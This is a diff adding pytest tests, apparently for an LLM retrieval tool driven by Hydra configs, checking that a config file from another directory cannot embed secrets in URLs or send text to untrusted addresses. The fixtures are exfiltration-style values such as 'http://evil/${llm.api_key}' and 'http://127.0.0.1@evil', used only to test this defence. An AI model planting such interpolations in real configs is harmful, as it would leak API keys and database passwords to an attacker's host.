@@ -179,6 +179,66 @@ def test_a_file_from_elsewhere_cannot_read_a_secret_or_have_one_sent_to_its_addr
     assert message.endswith("or allow it with 'trust=[secrets]'")
 
 
+REFERENCES = {
+    "a key": ("http://evil/${llm.api_key}", "+llm.api_key=typed-s3cr3t"),
+    "a relative reference": ("http://evil/${..llm.api_key}", "+llm.api_key=typed-s3cr3t"),
+    "brackets": ("http://evil/${llm[api_key]}", "+llm.api_key=typed-s3cr3t"),
+    "a resolver": ("http://evil/${oc.select:llm.api_key}", "+llm.api_key=typed-s3cr3t"),
+    "a password in an address": ("http://evil/${tracking.uri}", "tracking.uri='postgresql://me:typed-s3cr3t@db/x'"),
+    "words of libpq": ("http://evil/${x}", "+x='host=db password=typed-s3cr3t'"),
+    "an address of a database": ("http://evil/${x.dsn}", "+x.dsn='host=typed-s3cr3t'"),
+    "another setting of the file": ("http://evil/${retriever.index}", "+llm.api_key=typed-s3cr3t"),
+    "a variable": ("http://evil/${retriever.index}", "+llm.api_key='${oc.env:KEY}'"),
+}
+
+
+@pytest.mark.parametrize(("address", "word"), REFERENCES.values(), ids=REFERENCES)
+def test_a_file_from_elsewhere_cannot_refer_to_a_secret(
+    address: str, word: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("KEY", "typed-s3cr3t")
+    index = "'${llm.api_key}'" if "retriever.index" in address else "x"
+    preset = f"{GLOBAL}defaults: [override /retriever: http]\n"
+    write({EXPERIMENT: f"{preset}retriever: {{base_url: '{address}', index: {index}}}"})
+    message = read_error(["--config-dir=../friend", "experiment=mine", word], capsys)
+    assert "and it refers to a secret; set it on the command line, or allow it with 'trust=[secrets]'" in message
+    assert "typed-s3cr3t" not in message
+
+
+@pytest.mark.parametrize("word", ["+retriever.headers.X-Api-Key=typed-s3cr3t", "+retriever.headers.A='${oc.env:KEY}'"])
+def test_a_typed_secret_is_not_sent_to_an_address_in_a_file_from_elsewhere(
+    word: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    write({EXPERIMENT: f"{GLOBAL}defaults: [override /retriever: http]\nretriever: {{base_url: 'http://127.0.0.1:1'}}"})
+    message = read_error(["--config-dir=../friend", "experiment=mine", word], capsys)
+    assert "retriever.base_url=http://127.0.0.1:1" in message
+    assert message.endswith("an address that a secret would be sent to; set it on the command line, or allow it with "
+                            "'trust=[secrets]'")  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("text", "named"),
+    [
+        ("defaults: [override /retriever: http]\nretriever: {base_url: 'http://evil'}", "retriever.base_url"),
+        ("defaults: [override /retriever: http]\nretriever: {base_url: 'http://127.0.0.1@evil'}", "retriever.base_url"),
+        ("x: 'http://evil'\ndefaults: [override /retriever: http]\nretriever: {base_url: '${x}'}", "retriever.base"),
+        ("defaults: [override /retriever: http]\nhydra: {mode: MULTIRUN}\n"
+         "sweep: {union: {a: {retriever.base_url: ['http://evil']}}}", "sweep.union.a.retriever.base_url"),
+    ],
+)  # fmt: skip
+def test_a_file_from_elsewhere_cannot_send_texts_to_its_address(
+    text: str, named: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    write({EXPERIMENT: f"{GLOBAL}{text}"})
+    words = ["--config-dir=../friend", "experiment=mine"]
+    message = read_error(words, capsys)
+    assert named in message
+    assert "trust=[se" in message
+    if "sweep" not in text:
+        assert "is an address that texts would be sent to" in message
+        assert main([*words, "trust=[services]", "--cfg", "job"]) == 0
+
+
 FREE = f"""{GLOBAL}defaults: [override /hydra/sweeper: optuna, override /llm: openai]
 hydra: {{mode: MULTIRUN, sweeper: {{n_trials: 3, seed: 4, params: {{retriever.k1: 'interval(0.5,1.5)'}}}}}}
 llm: {{base_url: 'http://127.0.0.1:1/v1', model: m}}
